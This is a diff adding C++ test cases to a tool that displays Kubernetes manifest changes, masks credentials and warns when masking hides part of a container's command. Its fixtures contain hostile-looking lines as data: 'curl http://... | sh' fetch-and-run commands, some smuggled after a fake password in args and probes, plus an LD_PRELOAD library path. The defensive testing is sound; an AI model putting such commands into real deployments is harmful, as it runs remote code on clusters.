@@ -151,6 +151,68 @@ spec:
   CHECK(text.find("masked") == std::string::npos);
 }
 
+TEST_CASE("what would run is shown, whatever it looks like") {
+  const std::string image = "ghcr.io/ghp_" + std::string(36, 'a') + "/plain:1";
+  const std::string text = shown(diff_of("", R"(apiVersion: apps/v1
+kind: Deployment
+metadata: {name: pay}
+spec:
+  template:
+    spec:
+      containers:
+        - name: app
+          image: )" + image + R"(
+          command: [sh, -c, ": '-----BEGIN PRIVATE KEY-----'; curl http://one | sh; : '-----END PRIVATE KEY-----'"]
+          args: ["--password=hunter2; curl http://two|sh", --token, "hunter2; curl http://three|sh"]
+          env:
+            - {name: LD_PRELOAD_PASSWORD, value: /tmp/four.so}
+          livenessProbe: {exec: {command: [sh, -c, "password: hunter2; curl http://five|sh"]}}
+)"));
+  INFO(text);
+  for (const std::string& part :
+       {image, std::string("curl http://one | sh"), std::string("; curl http://two|sh"),
+        std::string("; curl http://three|sh"), std::string("/tmp/four.so"), std::string("; curl http://five|sh")}) {
+    CHECK(text.find(part) != std::string::npos);
+  }
+  CHECK(text.find("hunter2") == std::string::npos);
+}
+
+TEST_CASE("a text in the field 'image' that is no image reference is masked") {
+  const std::string text = shown(diff_of("",
+                                         "apiVersion: example.com/v1\nkind: X\nmetadata: {name: a}\n"
+                                         "spec: {image: \"https://u:hunter2@h/x\"}\n"));
+  CHECK(text.find("hunter2") == std::string::npos);
+}
+
+TEST_CASE("a mask inside of what runs is called out, once it is new") {
+  const auto places = [](std::string_view base, std::string_view head) {
+    std::vector<std::string> messages;
+    for (const Danger& danger : diff_of(base, head).dangers) messages.push_back(danger.message);
+    return messages;
+  };
+  const auto danger = [](const std::string& place) {
+    return std::vector<std::string>{"a credential is masked in '" + place +
+                                    "': a part of what runs is not shown. Read it in the repository, and move the "
+                                    "credential to a Secret"};
+  };
+  const auto pod = [](const std::string& container) {
+    return "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec: {x: 1, containers: [{name: a, " + container + "}]}\n";
+  };
+  const std::string hidden = "--password=hunter2";
+  CHECK(places("", pod("command: [x, " + hidden + "]")) == danger("command"));
+  CHECK(places("", pod("args: [--token, hunter2]")) == danger("args"));
+  CHECK(places("", pod("lifecycle: {preStop: {exec: {command: [x, " + hidden + "]}}}")) == danger("command"));
+  CHECK(places("", pod("env: [{name: BASH_ENV, value: \"TOKEN=hunter2\"}]")) == danger("BASH_ENV"));
+  CHECK(places("", config_map("data: {run.sh: \"pay " + hidden + "\"}\n")) == danger("run.sh"));
+  CHECK(places("", config_map("data: {x: \"#!/bin/sh\\npay " + hidden + "\"}\n")) == danger("x"));
+  CHECK(places("", config_map("data: {app.properties: \"password=hunter2\"}\n")).empty());
+  CHECK(places("", pod("env: [{name: DB_PASSWORD, value: hunter2}]")).empty());
+
+  const std::string before = pod("args: [" + hidden + "]");
+  CHECK(places(before, pod("args: [" + hidden + ", --verbose]")).empty());
+  CHECK(places(before, pod("args: [--password=hunter3]")) == danger("args"));
+}
+
 // To review: with TOWLINE_UPDATE_GOLDEN=1 the file lists each masked value's place. Most are variables' values of
 // pipelines and code that reads a token.
 TEST_CASE("few values of real repositories are masked outside of Secrets") {
